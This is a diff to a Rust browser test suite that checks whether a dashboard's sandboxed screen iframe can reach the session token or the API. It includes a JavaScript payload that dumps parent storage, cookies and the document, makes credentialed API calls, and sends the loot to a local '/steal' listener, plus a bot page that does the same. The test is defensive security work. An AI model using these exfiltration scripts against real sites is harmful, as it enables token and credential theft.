@@ -3,7 +3,9 @@
 //! file and see it in the Files window, the bot's commands appear in Activity without a reload,
 //! "Stop the bot first" and the waiting-for-takeover highlight. Screenshots of every step go to
 //! `target/dashboard-artifacts/`. The Terminal window runs against a docker computer, whose
-//! shell is real (host computers never expose one).
+//! shell is real (host computers never expose one). Screen isolation: a bot serving its own page
+//! on its gateway port never has it shown, and a script inside a screen frame reaches neither
+//! the dashboard's token nor the API.
 
 mod common;
 mod docker_support;
@@ -117,6 +119,8 @@ impl Browser {
             ws,
             id: 0,
             logs: Vec::new(),
+            frames: Vec::new(),
+            contexts: Vec::new(),
             shots: artifacts(),
         };
         cdp.call("Page.enable", json!({})).await;
@@ -138,14 +142,35 @@ struct Cdp {
     id: u64,
     /// Console messages, exceptions and log entries (CSP violations), for failure reports.
     logs: Vec<String>,
+    /// Out-of-process frames attached to this session (after `Target.setAutoAttach`):
+    /// (target id, session id).
+    frames: Vec<(String, String)>,
+    /// Page-world script contexts of in-process frames: (frame id, context id).
+    contexts: Vec<(String, i64)>,
     shots: PathBuf,
+}
+
+/// Where a frame's own page scripts run: an out-of-process frame's session, or an in-process
+/// frame's context.
+enum FrameWorld {
+    Session(String),
+    Context(i64),
 }
 
 impl Cdp {
     async fn call(&mut self, method: &str, params: Value) -> Value {
+        self.call_on(None, method, params).await
+    }
+
+    /// A call on the page (`session` = `None`) or on an attached frame's session.
+    async fn call_on(&mut self, session: Option<&str>, method: &str, params: Value) -> Value {
         self.id += 1;
         let id = self.id;
-        let msg = json!({ "id": id, "method": method, "params": params }).to_string();
+        let mut msg = json!({ "id": id, "method": method, "params": params });
+        if let Some(session) = session {
+            msg["sessionId"] = json!(session);
+        }
+        let msg = msg.to_string();
         self.ws.send(Message::text(msg)).await.unwrap();
         loop {
             let frame = tokio::time::timeout(Duration::from_secs(60), self.ws.next())
@@ -184,6 +209,26 @@ impl Cdp {
                 "log {}: {}",
                 p["entry"]["level"], p["entry"]["text"]
             )),
+            Some("Runtime.executionContextCreated")
+                if v.get("sessionId").is_none() && p["context"]["auxData"]["isDefault"] == true =>
+            {
+                self.contexts.push((
+                    p["context"]["auxData"]["frameId"]
+                        .as_str()
+                        .unwrap_or_default()
+                        .into(),
+                    p["context"]["id"].as_i64().unwrap_or_default(),
+                ));
+            }
+            Some("Target.attachedToTarget") if p["targetInfo"]["type"] == "iframe" => {
+                self.frames.push((
+                    p["targetInfo"]["targetId"]
+                        .as_str()
+                        .unwrap_or_default()
+                        .into(),
+                    p["sessionId"].as_str().unwrap_or_default().into(),
+                ));
+            }
             _ => {}
         }
     }
@@ -200,6 +245,80 @@ impl Cdp {
             panic!("`{expr}` threw: {ex}");
         }
         r["result"]["value"].clone()
+    }
+
+    /// Evaluate an expression in a frame's own page world; its JSON value.
+    async fn eval_in(&mut self, frame: &FrameWorld, expr: &str) -> Value {
+        let mut params = json!({ "expression": expr, "returnByValue": true, "awaitPromise": true });
+        let session = match frame {
+            FrameWorld::Session(s) => Some(s.as_str()),
+            FrameWorld::Context(id) => {
+                params["contextId"] = json!(id);
+                None
+            }
+        };
+        let r = self.call_on(session, "Runtime.evaluate", params).await;
+        if let Some(ex) = r.get("exceptionDetails") {
+            panic!("`{expr}` threw in the frame: {ex}");
+        }
+        r["result"]["value"].clone()
+    }
+
+    /// The newest frame whose URL contains `part`: out of process (sandboxed frames run in a
+    /// process of their own) or, should a frame share the dashboard's origin, in process.
+    async fn frame_world(&mut self, part: &str) -> FrameWorld {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        loop {
+            let targets = self.call("Target.getTargets", json!({})).await;
+            let remote = targets["targetInfos"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter(|t| t["type"] == "iframe")
+                .filter(|t| t["url"].as_str().is_some_and(|u| u.contains(part)))
+                .filter_map(|t| {
+                    let id = t["targetId"].as_str()?;
+                    self.frames
+                        .iter()
+                        .rev()
+                        .find(|(target, _)| target == id)
+                        .map(|(_, session)| session.clone())
+                })
+                .next_back();
+            if let Some(session) = remote {
+                return FrameWorld::Session(session);
+            }
+            let tree = self.call("Page.getFrameTree", json!({})).await;
+            let mut stack = vec![tree["frameTree"].clone()];
+            let mut local = None;
+            while let Some(node) = stack.pop() {
+                let frame = &node["frame"];
+                if frame["parentId"].is_string()
+                    && frame["url"].as_str().is_some_and(|u| u.contains(part))
+                {
+                    let id = frame["id"].as_str().unwrap_or_default();
+                    local = self
+                        .contexts
+                        .iter()
+                        .rev()
+                        .find(|(f, _)| f == id)
+                        .map(|(_, c)| *c)
+                        .or(local);
+                }
+                stack.extend(
+                    node["childFrames"]
+                        .as_array()
+                        .into_iter()
+                        .flatten()
+                        .cloned(),
+                );
+            }
+            if let Some(context) = local {
+                return FrameWorld::Context(context);
+            }
+            assert!(Instant::now() < deadline, "no frame at {part}");
+            tokio::time::sleep(Duration::from_millis(200)).await;
+        }
     }
 
     async fn shot(&mut self, name: &str) {
@@ -833,5 +952,400 @@ async fn dashboard_terminal_on_a_docker_computer() {
         .filter(|l| l.starts_with("exception") || l.contains("Content Security Policy"))
         .collect();
     assert!(problems.is_empty(), "page problems: {problems:?}");
+    drop(browser);
+}
+
+/// What the bot's own servers saw: every request line, header and body, in order.
+type Seen = std::sync::Arc<std::sync::Mutex<Vec<String>>>;
+
+/// The page a bot serves from its gateway port in place of websockify: it would read the
+/// viewer's token from the embedding dashboard and send it home.
+const BOT_PAGE: &str = "<!doctype html><html><head><title>bot page</title><script>\
+window.botPage = true;\
+var t = ''; try { t = JSON.stringify(Object.entries(parent.sessionStorage)); } catch (e) { t = 'blocked'; }\
+fetch('/steal?from=page&t=' + encodeURIComponent(t));\
+</script></head><body>bot page</body></html>";
+
+/// Evaluated in a screen frame: `complete noVNC true` when it holds the packaged viewer (its
+/// control bar, no trace of the bot's page).
+const VIEWER_CHECK: &str = "document.readyState + ' ' + (document.title.endsWith('noVNC') ? 'noVNC' : document.title) + ' ' + (!!document.getElementById('noVNC_control_bar') && window.botPage === undefined)";
+
+/// A server run by the bot on `listener`: records every request and answers [`BOT_PAGE`].
+fn bot_server(listener: std::net::TcpListener, seen: Seen) {
+    let server = actix_web::HttpServer::new(move || {
+        let seen = seen.clone();
+        actix_web::App::new().default_service(actix_web::web::to(
+            move |req: actix_web::HttpRequest, body: actix_web::web::Bytes| {
+                let seen = seen.clone();
+                async move {
+                    let headers: Vec<String> = req
+                        .headers()
+                        .iter()
+                        .map(|(k, v)| format!("{k}: {}", v.to_str().unwrap_or_default()))
+                        .collect();
+                    seen.lock().unwrap().push(format!(
+                        "{} {} | {} | {}",
+                        req.method(),
+                        req.uri(),
+                        headers.join("; "),
+                        String::from_utf8_lossy(&body)
+                    ));
+                    actix_web::HttpResponse::Ok()
+                        .content_type("text/html")
+                        .body(BOT_PAGE)
+                }
+            },
+        ))
+    })
+    .workers(1)
+    .disable_signals()
+    .listen(listener)
+    .unwrap()
+    .run();
+    actix_rt::spawn(server);
+}
+
+/// The websockify processes (the server and its per-connection children) of this server's host
+/// desktops, and the gateway port they listen on.
+fn gateway_websockify(s: &TestServer) -> (Vec<u32>, u16) {
+    let want = format!(
+        "RAKAZO_DESKTOP_TAG={}/",
+        s.app.config.data_dir.join("run").display()
+    );
+    let mut pids = Vec::new();
+    let mut port = None;
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
+            continue;
+        };
+        let Ok(environ) = std::fs::read(entry.path().join("environ")) else {
+            continue;
+        };
+        let tagged = environ.split(|b| *b == 0).any(|v| {
+            let v = String::from_utf8_lossy(v);
+            v.starts_with(&want) && v.ends_with("/gateway")
+        });
+        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
+        let args: Vec<String> = cmdline
+            .split(|b| *b == 0)
+            .filter(|a| !a.is_empty())
+            .map(|a| String::from_utf8_lossy(a).into_owned())
+            .collect();
+        if tagged && args.iter().any(|a| a.contains("websockify")) {
+            pids.push(pid);
+            port = args
+                .last()
+                .and_then(|a| a.rsplit_once(':'))
+                .and_then(|(_, p)| p.parse().ok());
+        }
+    }
+    (pids, port.expect("a running screen gateway"))
+}
+
+/// What a script in a screen frame tries, to get at the dashboard's token and the API: the
+/// embedding page's storage, document and cookies, its own storage and cookies, the API with
+/// the browser's credentials, and sending what it found to the bot's listener at `home` (by
+/// fetch, by image, and last by navigating the frame there). Returns what it got.
+fn frame_attack(home: &str) -> String {
+    format!(
+        r#"(async () => {{
+  const got = {{}};
+  const grab = (k, f) => {{ try {{ got[k] = String(f()); }} catch (e) {{ got[k] = "blocked: " + e.name; }} }};
+  const dump = (st) => JSON.stringify(Array.from({{ length: st.length }}, (_, i) => [st.key(i), st.getItem(st.key(i))]));
+  grab("origin", () => self.origin);
+  grab("parentSessionStorage", () => dump(parent.sessionStorage));
+  grab("parentLocalStorage", () => dump(parent.localStorage));
+  grab("parentDocument", () => parent.document.documentElement.outerHTML);
+  grab("parentCookie", () => parent.document.cookie);
+  grab("topLocation", () => top.location.href);
+  grab("sessionStorage", () => dump(sessionStorage));
+  grab("localStorage", () => dump(localStorage));
+  grab("cookie", () => document.cookie);
+  grab("opener", () => String(window.opener && window.opener.sessionStorage));
+  const body = JSON.stringify({{ jsonrpc: "2.0", id: 1, method: "space.list", params: {{}} }});
+  for (const [k, init] of [
+    ["rpcJson", {{ method: "POST", credentials: "include", headers: {{ "content-type": "application/json" }}, body }}],
+    ["rpcSimple", {{ method: "POST", credentials: "include", body }}],
+    ["rpcNoCors", {{ method: "POST", credentials: "include", mode: "no-cors", body }}],
+  ]) {{
+    try {{ const r = await fetch("/rpc", init); got[k] = r.status + " " + (await r.text()); }}
+    catch (e) {{ got[k] = "blocked: " + e.name; }}
+  }}
+  const loot = encodeURIComponent(JSON.stringify(got));
+  try {{ await fetch("{home}/steal?by=fetch&loot=" + loot, {{ mode: "no-cors" }}); got.fetchHome = "sent"; }}
+  catch (e) {{ got.fetchHome = "blocked: " + e.name; }}
+  try {{ new Image().src = "{home}/steal?by=image&loot=" + loot; }} catch (e) {{}}
+  setTimeout(() => {{ try {{ location.href = "{home}/steal?by=navigation&loot=" + loot; }} catch (e) {{}} }}, 300);
+  return got;
+}})()"#
+    )
+}
+
+/// Checks what a frame script got: nothing of the token, no storage or document of the
+/// dashboard, no answered API call.
+fn assert_nothing_reached(got: &Value, token: &str) {
+    let text = got.to_string();
+    assert!(!text.contains(token), "the frame found the token: {text}");
+    assert_eq!(got["origin"], "null", "{text}");
+    for k in [
+        "parentSessionStorage",
+        "parentLocalStorage",
+        "parentDocument",
+        "parentCookie",
+        "topLocation",
+    ] {
+        assert!(
+            got[k].as_str().is_some_and(|v| v.starts_with("blocked")),
+            "{k}: {text}"
+        );
+    }
+    // The page's own storage is the reporter's empty in-memory stand-in; no cookies.
+    assert_eq!(got["sessionStorage"], "[]", "{text}");
+    assert_eq!(got["cookie"], "", "{text}");
+    for k in ["rpcJson", "rpcSimple", "rpcNoCors"] {
+        let v = got[k].as_str().unwrap_or_default();
+        assert!(
+            v.starts_with("blocked") || v.starts_with("401") || v.starts_with("0 "),
+            "{k} answered: {text}"
+        );
+        assert!(!v.contains("\"result\""), "{k}: {text}");
+    }
+}
+
+/// The acceptance test of screen isolation: a bot that serves its own page on its gateway port
+/// never has it served to a viewer, and even a script running inside the screen frame (a
+/// compromised viewer) cannot read the dashboard's token or call the API with it.
+#[actix_rt::test]
+async fn a_screen_cannot_read_the_dashboards_token_or_call_the_api() {
+    let Some(bin) = chromium() else {
+        common::gate::missing("chromium", common::gate::CHROMIUM);
+        return;
+    };
+    let _alone = ONE_AT_A_TIME.lock().await;
+    let s = TestServer::start(
+        Backend::Sqlite,
+        &[("SANDBOX_PROVIDER", "desktop"), ("RAKAZO_ENV", "test")],
+    )
+    .await
+    .unwrap();
+    let (_, bots) = s.space_with_bots(1, "team").await;
+    let bot = bots[0].clone();
+    let card = format!("[data-bot=\"{bot}\"]");
+    let token = s.operator_token.clone();
+    let long = Duration::from_secs(60);
+    // The bot's listener, where a frame script would send what it found.
+    let seen: Seen = Default::default();
+    let home_listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let home = format!("http://{}", home_listener.local_addr().unwrap());
+    bot_server(home_listener, seen.clone());
+
+    let browser = Browser::launch(bin).await;
+    let mut cdp = browser.page().await;
+    cdp.call(
+        "Target.setAutoAttach",
+        json!({ "autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true }),
+    )
+    .await;
+    cdp.sign_in(&s.base, &token).await;
+    cdp.wait_data(
+        "screen connected",
+        &format!("{card} .stage"),
+        "screen",
+        "connected",
+        long,
+    )
+    .await;
+    // The token is in the dashboard's storage; the screen is framed with scripts only.
+    assert_eq!(
+        cdp.eval(&format!(
+            "Object.values(sessionStorage).includes({})",
+            json!(token)
+        ))
+        .await,
+        json!(true)
+    );
+    assert_eq!(
+        cdp.eval(&format!(
+            "document.querySelector('{card} .stage iframe').getAttribute('sandbox')"
+        ))
+        .await,
+        json!("allow-scripts")
+    );
+
+    // 1. A script in the live screen frame (as if the RFB stream had taken over noVNC).
+    let live = cdp.frame_world("/screen/").await;
+    assert_eq!(
+        cdp.eval_in(&live, VIEWER_CHECK).await,
+        json!("complete noVNC true"),
+        "the live frame is the packaged viewer"
+    );
+    let got = cdp.eval_in(&live, &frame_attack(&home)).await;
+    assert_nothing_reached(&got, &token);
+    cdp.shot("14-frame-script-contained").await;
+
+    // 2. The bot replaces websockify on its gateway port with its own server. A screen URL
+    // issued now is served by the proxy from the packaged noVNC, never by the bot.
+    let url = s.ok("computer.screenUrl", json!({ "botId": bot })).await["url"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let page_path = url.split('?').next().unwrap().to_owned();
+    let (pids, port) = gateway_websockify(&s);
+    for pid in &pids {
+        let _ = Command::new("kill")
+            .args(["-KILL", &pid.to_string()])
+            .status();
+    }
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let gateway_listener = loop {
+        match std::net::TcpListener::bind(("127.0.0.1", port)) {
+            Ok(l) => break l,
+            Err(e) => {
+                assert!(Instant::now() < deadline, "gateway port stays taken: {e}");
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+        }
+    };
+    bot_server(gateway_listener, seen.clone());
+    // The bot's server answers on the gateway port: it is what the computer serves now.
+    let direct = reqwest::get(format!("http://127.0.0.1:{port}/vnc.html"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(direct.contains("bot page"));
+    seen.lock().unwrap().clear();
+
+    let packaged = std::fs::read_to_string("/usr/share/novnc/vnc.html").unwrap();
+    let page = s
+        .http
+        .get(format!("{}{page_path}", s.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(page.status(), 200);
+    let csp = page.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .to_owned();
+    assert!(csp.starts_with("sandbox allow-scripts;"), "{csp}");
+    assert!(!csp.contains("allow-same-origin"), "{csp}");
+    assert_eq!(page.headers()["x-content-type-options"], "nosniff");
+    assert_eq!(page.headers()["referrer-policy"], "no-referrer");
+    let body = page.text().await.unwrap();
+    assert!(!body.contains("bot page"));
+    assert_eq!(
+        body.replacen("<script src=\"rakazo-reporter.js\"></script>", "", 1),
+        packaged
+    );
+    for other in ["anything-else.html", "steal", "app/bot.js", "vnc_lite.html"] {
+        let resp = s
+            .http
+            .get(format!(
+                "{}{}",
+                s.base,
+                page_path.replace("vnc.html", other)
+            ))
+            .header("accept", "application/json")
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(resp.status(), 404, "{other}");
+        assert_eq!(resp.headers()["x-rakazo-screen-reason"], "invalid_path");
+        assert!(
+            resp.headers()["content-security-policy"]
+                .to_str()
+                .unwrap()
+                .starts_with("sandbox allow-scripts;")
+        );
+    }
+
+    // The dashboard frames that URL (without autoconnect, so the frame stays while it is
+    // examined): the packaged viewer, where a script is as contained as before.
+    cdp.eval(&format!(
+        "(async () => {{
+            const {{ Screen }} = await import('/assets/screen.js');
+            const stage = document.createElement('div');
+            stage.className = 'stage';
+            stage.id = 'probe-bot-page';
+            stage.style.width = '400px';
+            document.getElementById('bot-list').append(stage);
+            new Screen(stage, 'probe', async () => {}).open();
+            return true;
+        }})()",
+        json!(page_path)
+    ))
+    .await;
+    let cap = page_path.trim_end_matches("/vnc.html").to_owned();
+    let probe = cdp.frame_world(&cap).await;
+    cdp.wait_for(
+        "probe frame loaded",
+        "document.querySelector('#probe-bot-page iframe') !== null",
+        long,
+    )
+    .await;
+    let deadline = Instant::now() + long;
+    loop {
+        let state = cdp.eval_in(&probe, VIEWER_CHECK).await;
+        if state == json!("complete noVNC true") {
+            break;
+        }
+        assert!(Instant::now() < deadline, "probe frame: {state}");
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    let got = cdp.eval_in(&probe, &frame_attack(&home)).await;
+    assert_nothing_reached(&got, &token);
+    cdp.shot("15-bot-page-never-served").await;
+
+    // The bot's servers never served a page or a script to the browser and never saw the
+    // token: all they got is what a contained script could send (if anything).
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let log = seen.lock().unwrap().clone();
+    for line in &log {
+        assert!(!line.contains(&token), "the bot got the token: {line}");
+        assert!(
+            line.starts_with("GET /steal?") || line.starts_with("GET /websockify?"),
+            "the bot was asked for {line}"
+        );
+    }
+    // (A frame that navigated itself to the bot's listener runs the bot's page there, still
+    // sandboxed: it reaches nothing either.)
+    for line in log.iter().filter(|l| l.contains("from=page")) {
+        assert!(line.contains("t=blocked"), "{line}");
+    }
+    eprintln!("the bot's servers saw: {log:#?}");
+
+    // 3. Opened top-level in the dashboard's own tab (whose storage for the API's origin holds
+    // the token), the screen page is still in an opaque origin: its storage is the reporter's
+    // empty stand-in and the API does not answer it.
+    cdp.call(
+        "Page.navigate",
+        json!({ "url": format!("{}{page_path}", s.base) }),
+    )
+    .await;
+    cdp.wait_for(
+        "screen page top-level",
+        "document.readyState === 'complete' && !!document.getElementById('noVNC_control_bar')",
+        long,
+    )
+    .await;
+    let got = cdp.eval(&frame_attack(&home)).await;
+    let text = got.to_string();
+    assert!(!text.contains(&token), "the page found the token: {text}");
+    assert_eq!(got["origin"], "null", "{text}");
+    assert_eq!(got["sessionStorage"], "[]", "{text}");
+    for k in ["rpcJson", "rpcSimple", "rpcNoCors"] {
+        assert!(
+            !got[k].as_str().unwrap_or_default().contains("\"result\""),
+            "{k}: {text}"
+        );
+    }
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let log = seen.lock().unwrap().clone();
+    assert!(
+        !log.iter().any(|l| l.contains(&token)),
+        "the bot got the token: {log:#?}"
+    );
     drop(browser);
 }
